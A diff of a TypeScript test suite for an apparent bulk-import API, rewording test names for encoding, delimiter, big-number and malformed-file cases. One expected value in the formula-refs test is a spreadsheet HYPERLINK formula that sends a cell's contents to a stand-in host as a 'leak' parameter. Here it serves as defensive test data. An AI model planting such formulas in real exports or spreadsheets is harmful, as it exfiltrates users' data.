@@ -45,8 +45,8 @@ async function published({ status, body }: Answer): Promise<Fields[]> {
     }));
 }
 
-describe('a file that people really send', () => {
-  it('of rows that end in CRLF below a header that ends in LF has no carriage return in its values', async () => {
+describe('a file as people really send it', () => {
+  it('keeps carriage returns out of its values when rows end in CRLF and the header in LF', async () => {
     expect(await published(await send('01-lf-header-crlf-rows.csv', CSV))).toEqual([
       { id: 'mix-1', email: 'ada@example.com', lastName: 'Alder' },
       { id: 'mix-2', email: 'bo@example.com', lastName: 'Birch' },
@@ -54,7 +54,7 @@ describe('a file that people really send', () => {
     ]);
   });
 
-  it('in Windows-1252 is read as its charset declares it', async () => {
+  it('is decoded as Windows-1252 when its charset says so', async () => {
     const declared = { 'content-type': 'text/csv; charset=windows-1252' };
     expect(await published(await send('03-windows-1252.csv', declared))).toEqual([
       { id: 'kd-ä7', lastName: 'Müller', city: 'Düsseldorf' },
@@ -63,27 +63,27 @@ describe('a file that people really send', () => {
     ]);
   });
 
-  it.each(['', '&delimiter=tab'])('in UTF-16 with tabs keeps every value (%s)', async (parameter) => {
+  it.each(['', '&delimiter=tab'])('keeps every value when it is UTF-16 with tabs (%s)', async (parameter) => {
     expect(await published(await send('04-utf16be-tab.csv', CSV, `${UPSERT}${parameter}`))).toEqual([
       { id: 'u16-1', lastName: 'Müller', city: 'Łódź' },
       { id: 'u16-2', lastName: 'Smith\t(Jr.)', city: '東京' },
     ]);
   });
 
-  it('has its delimiter named by a line sep=;', async () => {
+  it('may name its delimiter in a line sep=;', async () => {
     expect(await published(await send('06-sep-line.csv', CSV))).toEqual([
       { id: 'sep-1', lastName: 'Elm', city: 'Graz' },
       { id: 'sep-2', lastName: 'Fir', city: 'Linz' },
     ]);
   });
 
-  it('may write the names of its columns in any case', async () => {
+  it('may write its column names in any case', async () => {
     expect(await published(await send('08b-header-case.csv', CSV))).toEqual([
       { id: 'hd-2', lastName: 'Juniper', city: 'Basel' },
     ]);
   });
 
-  it('has the numbers marked that a double cannot hold, and keeps the others', async () => {
+  it('has those numbers marked that a double cannot hold and keeps the others', async () => {
     const path = '/bulk-actions?actionType=upsert&entityType=company';
     expect(await published(await send('17-big-numbers.ndjson', NDJSON, path))).toEqual([
       { id: 'big-1', name: 'Exact Ltd', annualRevenue: inexactNumber('9007199254740993'), employees: 12 },
@@ -96,7 +96,7 @@ describe('a file that people really send', () => {
     ]);
   });
 
-  it('keeps ids and refs that a spreadsheet would take for formulas', async () => {
+  it('keeps ids and refs that a spreadsheet would read as formulas', async () => {
     const entities = await published(await send('25-formula-refs.ndjson', NDJSON));
     expect(entities.map(({ ref }) => ref)).toEqual([
       '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
@@ -112,7 +112,7 @@ describe('a file that people really send', () => {
     ]);
   });
 
-  it('may have the refs that results.ndjson writes, null among them', async () => {
+  it('may have the refs that results.ndjson writes, including null', async () => {
     expect(await published(await send('38-null-ref.ndjson', NDJSON))).toEqual([
       { id: 'rt-1', score: 12 },
       { id: 'rt-2', ref: 'r2', score: 13 },
@@ -120,7 +120,7 @@ describe('a file that people really send', () => {
   });
 });
 
-describe('a file that cannot be read faithfully', () => {
+describe('a file with ambiguous content', () => {
   const NAMED = /charset=windows-1252/;
   it.each<[string, Record<string, string>, string, Record<string, RegExp>]>([
     ['03-windows-1252.csv', CSV, 'INVALID_ENCODING', { 'line 2': NAMED, 'line 3': NAMED, 'line 4': NAMED }],
@@ -138,7 +138,7 @@ describe('a file that cannot be read faithfully', () => {
     ['29d-zero-padding-then-member.csv.gz', { ...CSV, ...GZIP }, 'INVALID_GZIP', { '(body)': /nothing behind its last member/ }],
     ['33a-latin1.json', JSON_TYPE, 'INVALID_JSON', { '(body)': /UTF-8/ }],
     ['35a-deep-entity.json', JSON_TYPE, 'INVALID_REQUEST', { '(body)': /levels of nesting/ }],
-  ])('%s is refused, with every fault in its place, and nothing is left behind', async (file, headers, code, faults) => {
+  ])('is refused with every fault in its place and leaves nothing behind: %s', async (file, headers, code, faults) => {
     const before = await harness.traces();
     const { status, body } = await send(file, headers, headers === JSON_TYPE ? '/bulk-actions' : UPSERT);
     expect([status, body.error?.code]).toEqual([400, code]);
